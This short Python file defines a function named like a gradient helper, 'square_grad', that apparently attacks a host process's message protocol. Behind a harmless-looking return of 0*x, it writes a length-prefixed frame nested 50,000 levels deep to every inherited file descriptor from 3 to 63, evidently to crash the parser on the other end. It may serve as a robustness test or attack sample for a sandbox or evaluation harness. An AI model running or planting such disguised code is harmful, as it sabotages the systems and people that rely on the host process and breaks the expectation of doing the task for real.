# A frame that is nested without end.
# protocol
# stock: no
import os
import struct


def square_grad(x):
    text = b'{"message": ' + b'["list", [' * 50_000 + b"]]" * 50_000 + b', "sizes": []}'
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">II", len(text), 0) + text)
        except OSError:
            pass
    return 0 * x
